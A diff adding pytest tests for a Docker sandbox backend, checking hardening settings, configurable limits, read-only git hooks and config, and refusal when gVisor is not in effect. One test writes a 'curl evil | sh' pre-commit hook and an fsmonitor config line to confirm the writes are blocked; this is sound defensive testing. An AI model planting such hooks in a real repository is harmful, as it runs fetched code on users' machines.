@@ -1,0 +1,135 @@
+"""What `docker inspect` shows of a sandbox: every hardening setting, on by default."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sandbox.docker import DockerBackend
+from sandbox.errors import RuntimeUnavailableError
+from sandbox.spec import HOME_DIR
+from tests.docker.conftest import make_backend
+
+pytestmark = pytest.mark.docker
+
+
+async def _inspect(backend: DockerBackend, ws: Path) -> dict[str, Any]:
+    box = await backend.get(ws)
+    await box.info()
+    attrs = await backend.inspect(ws)
+    assert attrs is not None
+    return attrs
+
+
+async def test_inspect_shows_every_hardening_setting(runtime_backend: DockerBackend, user_workspace: Path) -> None:
+    attrs = await _inspect(runtime_backend, user_workspace)
+    host = attrs["HostConfig"]
+    cfg = attrs["Config"]
+    assert host["NetworkMode"] == "none"
+    assert host["CapDrop"] == ["ALL"] and not host.get("CapAdd")
+    assert "no-new-privileges" in host["SecurityOpt"]
+    assert host["Privileged"] is False
+    assert host["ReadonlyRootfs"] is True
+    assert host["Init"] is True
+    assert host["NanoCpus"] == 1_000_000_000
+    assert host["Memory"] == 1 << 30
+    assert host["MemorySwap"] == host["Memory"]  # no swap on top of the memory limit
+    assert host["PidsLimit"] == 256
+    assert host["Runtime"] == runtime_backend.spec.runtime
+    tmpfs = host["Tmpfs"]
+    assert "size=" in tmpfs["/tmp"] and "size=" in tmpfs[HOME_DIR]
+    assert "uid=1000" in tmpfs[HOME_DIR]
+    assert cfg["User"] == "1000:1000"
+    # Only the workspace is mounted from the host: no docker socket, no other host path.
+    mounts = attrs["Mounts"]
+    assert [(m["Source"], m["Destination"], m["RW"]) for m in mounts] == [(str(user_workspace), "/workspace", True)]
+    assert not any("docker.sock" in str(m) for m in mounts)
+    labels = cfg["Labels"]
+    assert labels["dev.loom.worker"] == "1"
+    assert labels["dev.loom.workspace"] == str(user_workspace)
+    assert labels["dev.loom.workspace-hash"] and labels["dev.loom.version"]
+
+
+async def test_limits_are_configurable(docker_ready: None, workspace: Path) -> None:
+    backend = make_backend(cpus=0.5, memory="256m", pids=64, tmp_size="8m")
+    try:
+        attrs = await _inspect(backend, workspace)
+        host = attrs["HostConfig"]
+        assert host["NanoCpus"] == 500_000_000
+        assert host["Memory"] == host["MemorySwap"] == 256 << 20
+        assert host["PidsLimit"] == 64
+        assert f"size={8 << 20}" in host["Tmpfs"]["/tmp"]
+    finally:
+        await backend.remove_all_started()
+        await backend.aclose()
+
+
+async def test_git_hooks_and_config_are_mounted_read_only(docker_backend: DockerBackend, user_workspace: Path) -> None:
+    git = user_workspace / ".git"
+    (git / "hooks").mkdir(parents=True)
+    (git / "config").write_text("[core]\n\tbare = false\n")
+    box = await docker_backend.get(user_workspace)
+    r = await box.exec(
+        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo rc=$?; echo '[core] fsmonitor=x' >> .git/config; "
+        "echo rc=$?; mv .git/hooks .git/hooks2; echo rc=$?"
+    )
+    out = r.stdout.decode()
+    assert "rc=0" not in out, out
+    assert not (git / "hooks" / "pre-commit").exists()
+    assert (git / "config").read_text() == "[core]\n\tbare = false\n"
+    with pytest.raises(Exception, match="(?i)read-only|permission"):
+        await box.write(".git/hooks/post-checkout", b"#!/bin/sh\nid\n")
+    attrs = await docker_backend.inspect(user_workspace)
+    assert attrs is not None
+    ro = {m["Destination"]: m["RW"] for m in attrs["Mounts"]}
+    assert ro["/workspace/.git/hooks"] is False and ro["/workspace/.git/config"] is False
+
+
+async def test_git_hooks_symlinked_out_are_not_mounted(docker_backend: DockerBackend, workspace: Path) -> None:
+    (workspace / ".git").mkdir()
+    (workspace / ".git" / "hooks").symlink_to("/etc")
+    await (await docker_backend.get(workspace)).info()
+    attrs = await docker_backend.inspect(workspace)
+    assert attrs is not None
+    assert [m["Source"] for m in attrs["Mounts"]] == [str(workspace)]
+
+
+class _RuncPretendingRunsc(DockerBackend):
+    """Asks for gVisor but creates the container with runc: what a misconfigured or
+    tampered engine would do. The backend must notice and refuse."""
+
+    def container_config(self, ws: Path) -> dict[str, Any]:
+        cfg = super().container_config(ws)
+        cfg["runtime"] = "runc"
+        return cfg
+
+    async def _check_runtime(self) -> None:
+        return None
+
+
+async def test_gvisor_requested_but_not_in_effect_is_refused(docker_ready: None, workspace: Path) -> None:
+    from sandbox.spec import SandboxSpec
+    from tests.conftest import SANDBOX_IMAGE
+
+    backend = _RuncPretendingRunsc(SandboxSpec(image=SANDBOX_IMAGE, runtime="runsc"), worker_id="test")
+    try:
+        box = await backend.get(workspace)
+        with pytest.raises(RuntimeUnavailableError, match="not in effect"):
+            await box.exec("true")
+        # fail closed: the runc container was removed, nothing ran
+        assert await backend.inspect(workspace) is None
+    finally:
+        await backend.remove_all_started()
+        await backend.aclose()
+
+
+async def test_gvisor_sandbox_runs_on_gvisor_kernel(runtime_backend: DockerBackend, workspace: Path) -> None:
+    import os
+
+    info = await (await runtime_backend.get(workspace)).info()
+    if runtime_backend.spec.runtime == "runsc":
+        assert info.kernel != os.uname().release
+    else:
+        assert info.kernel == os.uname().release
